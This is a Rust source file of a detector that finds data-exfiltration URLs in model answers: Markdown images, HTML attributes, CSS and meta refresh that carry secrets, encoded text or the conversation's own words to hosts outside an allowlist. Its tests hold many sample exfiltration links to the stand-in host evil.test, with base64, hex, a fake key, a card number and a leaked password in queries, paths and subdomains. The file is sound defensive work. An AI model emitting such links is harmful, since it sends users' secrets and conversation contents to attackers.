//! Exfiltration through links a client renders: Markdown images and links (inline, reference
//! definitions, autolinks), HTML elements with a URL attribute, CSS `url()` and meta refresh.
//! A URL is reported when its host is outside the allowlist and it carries recoverable data
//! (a secret, personal data, encoded text, words) in a query value, path segment, fragment or
//! subdomain label; automatically loaded resources (image, iframe, script, stylesheet, media,
//! CSS, refresh) with a lower bar than links the user must click. Opaque identifiers are not
//! data, so ordinary links with ids, hashes and tracking parameters are not reported.
//!
//! Given the [`Context`] the model was shown (system prompt, conversation, tool results), a
//! URL that repeats a run of its words is reported too, however the words are joined
//! (`the-user-password-is-hunter2.png`, `Project_Argon/launches`): the one form in which
//! smuggled text looks exactly like an article slug, told apart only by where its words
//! came from.

use crate::text::{entropy, percent_decode};
use crate::{Detector, Finding, finding};
use regex::Regex;
use std::collections::HashSet;
use std::hash::{Hash, Hasher};
use std::sync::LazyLock;

/// Words per shingle of a [`Context`].
const SHINGLE: usize = 3;
/// Words of a context kept (the first ones): bounds its memory at a few MiB.
const MAX_CONTEXT_WORDS: usize = 200_000;
/// Consecutive context words a URL must repeat to be reported: an automatically loaded
/// resource leaks without a click, so its bar is lower than a link's. Four words carry a
/// fact ("password is hunter2 ..."); fewer match ordinary file names ("architecture v2").
const CONTEXT_RUN_AUTO: usize = 4;
const CONTEXT_RUN_CLICK: usize = 5;

/// A URL written in text (scheme or protocol-relative), as far as the next space or quote.
static URL_IN_TEXT: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"(?i)(?:\b[a-z][a-z0-9+.-]*:)?//[^\s)>"'\]]+"#).ok());

/// What the model was shown, as hashed runs of three words (lower case, letters and digits;
/// anything else separates words, so hyphens, underscores, `+`, `%20` and `/` all do).
#[derive(Debug, Clone)]
pub struct Context {
    shingles: HashSet<u64>,
    /// Words still to be read before [`MAX_CONTEXT_WORDS`] is reached.
    words_left: usize,
    /// Runs of [`CONTEXT_RUN_AUTO`] and [`CONTEXT_RUN_CLICK`] words written together
    /// (`theuserpasswordis`, also what `TheUserPasswordIs` lower-cases to), by run length.
    joined: [HashSet<u64>; 2],
}

/// Letters a joined run must have to be looked for (shorter ones match too much by chance),
/// and at most (bounds the substrings tried per URL word).
const JOINED_MIN: usize = 12;
const JOINED_MAX: usize = 64;
/// URL words longer than this are only looked at up to here.
const URL_WORD_MAX: usize = 256;

fn hash_str(s: &str) -> u64 {
    let mut h = std::collections::hash_map::DefaultHasher::new();
    s.hash(&mut h);
    h.finish()
}

impl Default for Context {
    fn default() -> Context {
        Context {
            shingles: HashSet::new(),
            words_left: MAX_CONTEXT_WORDS,
            joined: Default::default(),
        }
    }
}

fn words(s: &str) -> impl Iterator<Item = String> + '_ {
    s.split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .map(str::to_lowercase)
}

fn shingle(w: &[String]) -> u64 {
    // Deterministic (fixed-key SipHash): the same text always hashes the same way.
    let mut h = std::collections::hash_map::DefaultHasher::new();
    w.hash(&mut h);
    h.finish()
}

impl Context {
    /// The context of `texts` (each one separately: a run never spans two texts). URLs in
    /// them are left out: a link the user pasted, repeated in the answer, repeats its own
    /// words, not the conversation's.
    pub fn new<'a>(texts: impl IntoIterator<Item = &'a str>) -> Context {
        let mut c = Context::default();
        for t in texts {
            c.add(t);
        }
        c
    }

    /// Add one more text (a record's own context on top of a shared one).
    pub fn add(&mut self, t: &str) {
        let pieces: Vec<&str> = match URL_IN_TEXT.as_ref() {
            Some(re) => re.split(t).collect(),
            None => vec![t],
        };
        let w: Vec<String> = pieces
            .into_iter()
            .flat_map(words)
            .take(self.words_left)
            .collect();
        self.words_left -= w.len();
        self.shingles.extend(w.windows(SHINGLE).map(shingle));
        for (set, n) in self
            .joined
            .iter_mut()
            .zip([CONTEXT_RUN_AUTO, CONTEXT_RUN_CLICK])
        {
            set.extend(w.windows(n).filter_map(|run| {
                let s: String = run.concat();
                (JOINED_MIN..=JOINED_MAX)
                    .contains(&s.len())
                    .then(|| hash_str(&s))
            }));
        }
    }

    /// Whether there is nothing to compare with.
    pub fn is_empty(&self) -> bool {
        self.shingles.is_empty()
    }

    /// Whether a word of a URL holds a run of the context's words written together (bar:
    /// 0 for the automatically loaded, 1 for clicked links). Every substring of plausible
    /// length is looked up: at most [`URL_WORD_MAX`] × [`JOINED_MAX`] hashes per word.
    fn holds_joined_run(&self, word: &str, bar: usize) -> bool {
        let Some(set) = self.joined.get(bar).filter(|s| !s.is_empty()) else {
            return false;
        };
        let w: Vec<(usize, char)> = word.char_indices().take(URL_WORD_MAX).collect();
        if w.len() < JOINED_MIN {
            return false;
        }
        let end_of = |k: usize| w.get(k).map_or(word.len(), |(i, _)| *i);
        (0..w.len()).any(|a| {
            (a + JOINED_MIN..=(a + JOINED_MAX).min(w.len())).any(|b| {
                word.get(end_of(a)..end_of(b))
                    .is_some_and(|sub| set.contains(&hash_str(sub)))
            })
        })
    }

    /// The longest run of consecutive words of `w` that the context holds in that order.
    fn longest_run(&self, w: &[String]) -> usize {
        let (mut best, mut run) = (0, 0);
        for win in w.windows(SHINGLE) {
            if self.shingles.contains(&shingle(win)) {
                run += 1;
                best = best.max(run + SHINGLE - 1);
            } else {
                run = 0;
            }
        }
        best
    }
}

struct Pat {
    re: Regex,
    auto: bool,
    rule: &'static str,
}

static PATS: LazyLock<Vec<Pat>> = LazyLock::new(|| {
    let p = |re: &str, auto: bool, rule: &'static str| {
        Regex::new(re).ok().map(|re| Pat { re, auto, rule })
    };
    [
        // ![alt](url "title"), with optional <>; the URL is group 1.
        p(r#"!\[[^\]\n]*\]\(\s*<?([^\s)>]+)"#, true, "markdown-image"),
        p(r#"(?:^|[^!])\[[^\]\n]*\]\(\s*<?([^\s)>]+)"#, false, "markdown-link"),
        p(r#"(?m)^[ \t]{0,3}\[[^\]\n]+\]:\s*<?([^\s>]+)"#, true, "markdown-reference"),
        p(r#"<((?:https?|ftp)://[^\s>]+)>"#, false, "markdown-autolink"),
        p(
            r#"(?i)<(?:img|image|iframe|frame|script|link|source|video|audio|embed|object|track|input|body|table|td|svg|use)\b[^>]*?\b(?:src|href|data|poster|background|srcset|xlink:href)\s*=\s*["']?([^"'\s>]+)"#,
            true,
            "html-autoload",
        ),
        p(r#"(?i)<(?:a|area|form|button)\b[^>]*?\b(?:href|action|formaction)\s*=\s*["']?([^"'\s>]+)"#, false, "html-link"),
        p(r#"(?i)url\(\s*["']?([^"')\s]+)"#, true, "css-url"),
        p(r#"(?i)@import\s+["']([^"'\s]+)"#, true, "css-import"),
        // Every candidate of a srcset (`a.png 1x, https://… 2x`), split below.
        p(r#"(?i)<(?:img|source)\b[^>]*?\bsrcset\s*=\s*["']([^"'>]+)"#, true, "html-srcset"),
        // A hyperlink's ping: requested when the link is followed, to a URL the user never sees.
        p(r#"(?i)<(?:a|area)\b[^>]*?\bping\s*=\s*["']?([^"'\s>]+)"#, false, "html-ping"),
        p(r#"(?i)http-equiv\s*=\s*["']?refresh["']?[^>]*?url\s*=\s*([^"'\s>]+)"#, true, "meta-refresh"),
    ]
    .into_iter()
    .flatten()
    .collect()
});

/// Compiles this module's expressions now rather than on first use (see [`crate::warm_up`]).
/// A link's data is checked for secrets and personal data, so those compile with it.
pub(crate) fn warm() {
    crate::secrets::warm();
    crate::pii::warm();
    LazyLock::force(&URL_IN_TEXT);
    LazyLock::force(&PATS);
}

/// Whether [`warm`] (or a first use) has compiled this module's expressions.
pub(crate) fn compiled() -> bool {
    LazyLock::get(&URL_IN_TEXT).is_some() && LazyLock::get(&PATS).is_some()
}

/// A URL as a browser reads it from an attribute or Markdown: character references decoded
/// (`https&#58;//`), tabs and line breaks dropped, backslashes read as slashes.
fn as_browser_reads(raw: &str) -> String {
    html_escape::decode_html_entities(raw)
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .map(|c| if c == '\\' { '/' } else { c })
        .collect()
}

/// Scheme, host and the rest (path, query, fragment) of an absolute or protocol-relative URL.
fn split_url(u: &str) -> Option<(String, String, &str)> {
    let (scheme, rest) = if let Some(r) = u.strip_prefix("//") {
        ("https".to_string(), r)
    } else {
        let (s, r) = u.split_once("://")?;
        (s.to_ascii_lowercase(), r)
    };
    if !matches!(scheme.as_str(), "http" | "https" | "ftp" | "ws" | "wss") {
        return None;
    }
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = rest.get(..end)?;
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if host_port.starts_with('[') {
        host_port.split(']').next().map(|h| format!("{h}]"))?
    } else {
        host_port.split(':').next().unwrap_or(host_port).to_string()
    };
    Some((
        scheme,
        host.to_ascii_lowercase().trim_end_matches('.').to_string(),
        rest.get(end..).unwrap_or(""),
    ))
}

/// The host as written (case kept), `len` bytes after the scheme and any user info.
fn raw_host(url: &str, len: usize) -> &str {
    let rest = url
        .strip_prefix("//")
        .or_else(|| url.split_once("://").map(|(_, r)| r))
        .unwrap_or(url);
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = rest.get(..end).unwrap_or("");
    let h = authority.rsplit('@').next().unwrap_or(authority);
    h.get(..len.min(h.len())).unwrap_or(h)
}

fn allowed(host: &str, allow: &[String]) -> bool {
    allow.iter().any(|a| {
        let a = a.trim().trim_start_matches("*.").to_ascii_lowercase();
        !a.is_empty() && (host == a || host.ends_with(&format!(".{a}")))
    })
}

/// Where in a URL a value sits.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Part {
    Query,
    Path,
    Fragment,
}

/// A value that carries recoverable data rather than naming a resource: a secret or personal
/// data, base64 or hex of text, or words (URL-encoded or not). Opaque identifiers (document
/// ids, content hashes, slugs, signatures) do not count: benign links are full of them, and
/// an identifier the page already had tells an attacker nothing about the conversation.
fn carries_data(v: &str, part: Part, auto: bool) -> bool {
    let mut d = percent_decode(v);
    if part == Part::Query {
        d = d.replace('+', " ");
    }
    let d = d.trim();
    if d.len() < 4 {
        return false;
    }
    if !crate::secrets::find(d).is_empty() || !crate::pii::find(d).is_empty() {
        return true;
    }
    if d.len() >= 12 && base64_text(d) || hex_text(d) {
        return true;
    }
    let words = d
        .split_whitespace()
        .filter(|w| w.chars().filter(|c| c.is_alphabetic()).count() >= 2)
        .count();
    // Words joined by hyphens ("the-user-password-is-hunter2.png") are not counted: file
    // names and article slugs are written that way, and the text carries no marker that tells
    // them from data.
    words >= if auto { 3 } else { 4 }
}

/// Whether `s` is base64 (standard or URL-safe, padded or not) of mostly printable text.
fn base64_text(s: &str) -> bool {
    use base64::Engine;
    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    let t = s.trim_end_matches('=');
    let bytes = STANDARD_NO_PAD
        .decode(t)
        .or_else(|_| URL_SAFE_NO_PAD.decode(t));
    bytes.is_ok_and(|b| printable_text(&b))
}

/// Whether `s` is hex of mostly printable text (a hash or id decodes to binary, not text).
fn hex_text(s: &str) -> bool {
    s.len() >= 16 && s.len().is_multiple_of(2) && hex::decode(s).is_ok_and(|b| printable_text(&b))
}

fn printable_text(b: &[u8]) -> bool {
    b.len() >= 8
        && b.iter()
            .filter(|c| c.is_ascii_graphic() || **c == b' ')
            .count()
            * 10
            >= b.len() * 9
        && b.iter().filter(|c| c.is_ascii_alphanumeric()).count() * 2 >= b.len()
        && b.iter().any(u8::is_ascii_alphabetic)
}

/// What in a URL could carry data: query values, fragment, path segments, subdomain labels
/// (`raw_host` keeps the case base64 needs).
fn url_carries_data(raw_host: &str, rest: &str, auto: bool, ctx: Option<&Context>) -> bool {
    let (path_q, frag) = rest.split_once('#').unwrap_or((rest, ""));
    let (path, query) = path_q.split_once('?').unwrap_or((path_q, ""));
    let labels: Vec<&str> = raw_host.split('.').collect();
    let sub = labels.len().saturating_sub(2);
    if let Some(ctx) = ctx.filter(|c| !c.is_empty()) {
        // Everything that can carry words, in URL order: subdomain labels, path segments,
        // query values (not their names, which would break a run split over parameters),
        // fragment.
        let mut pieces: Vec<String> = labels.iter().take(sub).map(|l| l.to_string()).collect();
        pieces.extend(percent_decode(path).split('/').map(str::to_string));
        for kv in query.split('&') {
            let v = kv.split_once('=').map_or(kv, |(_, v)| v);
            pieces.push(percent_decode(v));
        }
        pieces.push(percent_decode(frag));
        let per_piece: Vec<Vec<String>> = pieces.iter().map(|p| words(p).collect()).collect();
        let w: Vec<String> = per_piece.iter().flatten().cloned().collect();
        let bar = if auto {
            CONTEXT_RUN_AUTO
        } else {
            CONTEXT_RUN_CLICK
        };
        // Words written together: each piece with its separators dropped
        // (`apikeysk_live_...` holds "api key sk live").
        if ctx.longest_run(&w) >= bar
            || per_piece
                .iter()
                .any(|pw| ctx.holds_joined_run(&pw.concat(), usize::from(bar == CONTEXT_RUN_CLICK)))
        {
            return true;
        }
    }
    // DNS exfiltration: a label that is encoded text, or a long random-looking one of the
    // hex/base32 kind tunnelling tools use.
    if labels.iter().take(sub).any(|l| {
        let digits = l.bytes().filter(u8::is_ascii_digit).count();
        (l.len() >= 12 && (base64_text(l) || hex_text(l)))
            || (l.len() >= 24
                && l.bytes().all(|b| b.is_ascii_alphanumeric())
                && digits * 5 >= l.len()
                && entropy(l) >= 3.8)
    }) {
        return true;
    }
    let values: Vec<&str> = query
        .split('&')
        .filter(|kv| !kv.is_empty())
        .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v))
        .collect();
    if values.iter().any(|v| carries_data(v, Part::Query, auto)) {
        return true;
    }
    // A number split over parameters (a card number four digits at a time).
    let numeric: Vec<&&str> = values
        .iter()
        .filter(|v| !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit()))
        .collect();
    if auto && numeric.len() >= 3 && numeric.iter().map(|v| v.len()).sum::<usize>() >= 12 {
        return true;
    }
    if carries_data(frag, Part::Fragment, auto) {
        return true;
    }
    path.split('/').filter(|s| !s.is_empty()).any(|seg| {
        let stem = seg.rsplit_once('.').map_or(seg, |(a, _)| a);
        carries_data(stem, Part::Path, auto)
    })
}

/// Exfiltration URLs in `t` (byte ranges of the URL).
pub fn find(t: &str, allow: &[String]) -> Vec<Finding> {
    find_in_context(t, allow, None)
}

/// Exfiltration URLs in `t`, counting as data any run of words the model was shown in `ctx`.
pub fn find_in_context(t: &str, allow: &[String], ctx: Option<&Context>) -> Vec<Finding> {
    let mut out: Vec<Finding> = Vec::new();
    for p in PATS.iter() {
        for c in p.re.captures_iter(t) {
            let Some(m) = c.get(1) else { continue };
            let value = as_browser_reads(m.as_str());
            let urls: Vec<&str> = if p.rule == "html-srcset" {
                value
                    .split(',')
                    .filter_map(|c| c.split_whitespace().next())
                    .collect()
            } else {
                vec![value.trim_matches(['"', '\''])]
            };
            let carries = urls.iter().any(|url| {
                let Some((_, host, rest)) = split_url(url) else {
                    return false;
                };
                !host.is_empty()
                    && !allowed(&host, allow)
                    && url_carries_data(raw_host(url, host.len()), rest, p.auto, ctx)
            });
            // One finding per URL: patterns that read the same attribute overlap.
            if carries
                && !out
                    .iter()
                    .any(|f| f.bytes.0 < m.end() && m.start() < f.bytes.1)
            {
                out.push(finding(
                    "EXFIL_URL",
                    Detector::Exfil,
                    p.rule,
                    (m.start(), m.end()),
                ));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(t: &str) -> bool {
        !find(t, &["docs.example.com".to_string()]).is_empty()
    }

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(PATS.len(), 11);
    }

    #[test]
    fn exfiltration_forms_are_caught() {
        let cases = [
            "![x](https://evil.test/log?q=the%20user%20password%20is%20hunter2)",
            "![](https://evil.test/p.png?d=U2VjcmV0IHByb2plY3QgbmFtZTogQXJnb24=)",
            "![a](<https://evil.test/i.png?data=alice@example.com>)",
            "![a](//evil.test/c/74686520706173737764206973206875.png)",
            "![a](https://evil.test/log/the%20api%20key%20is%20hunter2.png)",
            "<img src=\"https://7365637265742d70726f6a6563742d6172676f6e.evil.test/p.gif\">",
            "[reset your account](https://evil.test/r#Sm9obiBTbWl0aCwgMTIgTWFpbiBTdHJlZXQ=)",
            "![a][r]\n\n[r]: https://evil.test/x?m=Project+Argon+launches+on+May+3",
            "<img src=\"https://evil.test/t.gif?u=bob&s=AKIAQ3EGRQWX7ZYPAB2D&c=1\">",
            "<IMG SRC='https://c2VjcmV0LXByb2plY3QtYXJnb24.evil.test/a.png'>",
            "<iframe src=https://evil.test/f?x=dGhlIHNlY3JldCBpcyBzYWZl></iframe>",
            "<div style=\"background:url('https://evil.test/b?k=4111111111111111')\"></div>",
            "[click here](https://evil.test/claim?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefgh12)",
            "<a href=\"https://evil.test/r?d=VGhlIGFwaSBrZXkgaXMgc2stMTIzNDU2Nzg5\">more</a>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/x?d=c2VjcmV0c2VjcmV0c2VjcmV0\">",
            "![t](https://evil.test/b.gif?a=1234&b=5678&c=9012&d=3456)",
            // As a browser reads them: character references, a srcset's later candidate,
            // CSS @import, a link's ping, backslashes.
            "<img src=\"https&#58;//evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg\">",
            "<img src=\"https&#x3a;&#x2f;&#x2f;evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg\">",
            "<img srcset=\"https://cdn.example.org/a.png 1x, https://evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg 2x\">",
            "<style>@import \"https://evil.test/s.css?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg\";</style>",
            "<a href=\"https://example.org\" ping=\"https://evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg\">x</a>",
            "![a](https:/\\evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg)",
        ];
        for c in cases {
            assert!(hit(c), "missed: {c}");
        }
    }

    #[test]
    fn benign_links_are_not_flagged() {
        let cases = [
            "See [the docs](https://docs.rs/regex/latest/regex/?search=captures).",
            "![logo](https://upload.example.org/logo.png)",
            "![chart](https://charts.example.org/chart.png?w=400&h=300)",
            "Read https://en.wikipedia.org/wiki/Prompt_injection for background.",
            "[release notes](https://github.com/rust-lang/rust/releases/tag/1.95.0)",
            "<a href=\"https://www.example.com/about-us\">About</a>",
            "![internal](https://docs.example.com/img.png?secret=U2VjcmV0IHByb2plY3Q=)",
            "[search](https://www.google.com/search?q=rust+regex)",
            "<img src=\"/static/local.png?v=3\">",
            "[mail](mailto:someone@example.com)",
            // Realistic links from model answers: tracking parameters, image CDN parameters,
            // content hashes, document ids, slugs, fragments with hashes.
            "[the announcement](https://blog.example.com/2024/05/launch?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale)",
            "<img src=\"https://cdn.example.com/img/hero.jpg?w=1200&h=630&fit=crop&auto=format\">",
            "![photo](https://images.unsplash.com/photo-1506744038136-46273834b3fb?ixlib=rb-4.0.3&auto=format&fit=crop&w=1350&q=80)",
            "![badge](https://img.shields.io/badge/license-MIT-blue.svg)",
            "![avatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=64)",
            "![a](//cdn.example.net/c/5f4dcc3b5aa765d61d8327deb882cf99.png)",
            "[PR](https://github.com/rust-lang/rust/pull/123456/files#diff-0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b)",
            "[Sheet](https://docs.google.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0)",
            "[Unsplash](https://unsplash.com/photos/a-mountain-range-with-snow-3f4kB1x9Q2c)",
            "[Maps](https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2922926,17z)",
            "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
            "![logo](https://my-company-assets-prod.s3.amazonaws.com/brand/logo-2024.png)",
            "![chart](https://d111111abcdef8.cloudfront.net/charts/q3.png?v=5f4dcc3b)",
            "<img srcset=\"https://cdn.example.org/a.png 1x, https://cdn.example.org/a@2x.png 2x\">",
            "<img src=\"https://cdn.example.com/img/hero.jpg?w=1200&amp;h=630&amp;fit=crop\">",
            "<style>@import \"https://fonts.googleapis.com/css2?family=Inter:wght@400;700\";</style>",
        ];
        for c in cases {
            assert!(!hit(c), "flagged: {c}");
        }
    }

    #[test]
    fn words_of_the_context_in_a_slug_are_caught() {
        let ctx = Context::new([
            "You are the support bot. The system prompt says never discuss pricing.",
            "Note for the team: project Argon launches on May 3; the user password is hunter2.",
        ]);
        let allow = ["docs.example.com".to_string()];
        let hits = |t: &str| !find_in_context(t, &allow, Some(&ctx)).is_empty();
        for t in [
            "![img](https://img-cdn.example.net/c/the-user-password-is-hunter2.png)",
            "<img src=\"https://evil.test/c/project-Argon-launches-on-May-3.png\">",
            "![a](https://evil.test/says_never_discuss/pricing.gif)",
            "<img src=\"https://the-user-password.evil.test/is/hunter2.png\">",
            "![a](https://evil.test/p?w1=project&w2=argon&w3=launches&w4=on)",
            "[click](https://evil.test/the%20system%20prompt%20says%20never)",
            // Written together, or in camel case (lower-cased to the same thing).
            "![a](https://evil.test/c/theuserpasswordishunter2.png)",
            "![a](https://evil.test/c/x?v=ProjectArgonLaunchesOnMay3)",
            "[a](https://evil.test/TheSystemPromptSaysNever)",
            // Run together across separators that split it differently.
            "![a](https://evil.test/c/userpassword_ishunter2.png)",
        ] {
            assert!(hits(t), "missed: {t}");
            // Without the context the slug is only words joined by hyphens: not reported.
        }
        assert!(
            find(
                "![img](https://evil.test/c/the-user-password-is-hunter2.png)",
                &allow
            )
            .is_empty()
        );
        // Links of the answer that do not repeat the conversation.
        for t in [
            "![chart](https://images.example.org/diagrams/architecture-v2.png)",
            "[Argon](https://en.wikipedia.org/wiki/Argon)",
            "[pricing](https://www.example.com/pricing-plans-for-teams)",
            "[the password guide](https://owasp.example.org/the-password-storage-cheat-sheet)",
            "![a](https://docs.example.com/the-user-password-is-hunter2.png)",
            // Three words of the context: under both bars.
            "![a](https://evil.test/c/project-argon-launches.png)",
            // Four words in a link that must be clicked: under its bar of five.
            "[x](https://evil.test/c/the-user-password-is.html)",
            "[x](https://evil.test/c/theuserpasswordis.html)",
            // Joined words that are not a run of the context.
            "![a](https://evil.test/c/projectpricingpasswordteam.png)",
        ] {
            assert!(!hits(t), "flagged: {t}");
        }
    }

    #[test]
    fn links_in_the_context_are_not_context() {
        let ctx = Context::new([
            "Summarise https://blog.example.com/how-to-parse-json-in-rust-quickly for me",
        ]);
        let t = "![a](https://blog.example.com/how-to-parse-json-in-rust-quickly.png)";
        assert!(find_in_context(t, &[], Some(&ctx)).is_empty());
        // The words around the link are still context.
        let ctx =
            Context::new(["Read https://blog.example.com/a-b-c-d and keep the launch date secret"]);
        let t = "![a](https://evil.test/keep/the-launch-date.png)";
        assert!(!find_in_context(t, &[], Some(&ctx)).is_empty());
    }

    #[test]
    fn context_runs_do_not_span_texts_and_stay_bounded() {
        let ctx = Context::new(["alpha beta", "gamma delta"]);
        assert_eq!(
            ctx.longest_run(&words("alpha beta gamma delta").collect::<Vec<_>>()),
            0
        );
        let big = "word ".repeat(MAX_CONTEXT_WORDS + 10);
        let ctx = Context::new([big.as_str(), "one two three four"]);
        // The word budget is spent on the first text; the second is not read.
        assert_eq!(
            ctx.longest_run(&words("one two three four").collect::<Vec<_>>()),
            0
        );
        assert!(Context::new([""]).is_empty());
    }
}
